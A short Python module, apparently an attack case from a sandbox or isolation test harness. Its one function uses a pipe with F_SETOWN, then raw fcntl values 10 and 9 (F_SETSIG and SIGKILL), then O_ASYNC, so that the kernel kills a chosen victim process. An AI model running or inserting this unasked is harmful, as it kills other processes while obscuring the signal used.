"""Let the kernel signal the owner of a pipe."""

import fcntl
import os


def attack(ctx, at):
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, at["victim"])
    fcntl.fcntl(read, 10, 9)
    fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(write, b"x")
    return "signalled"
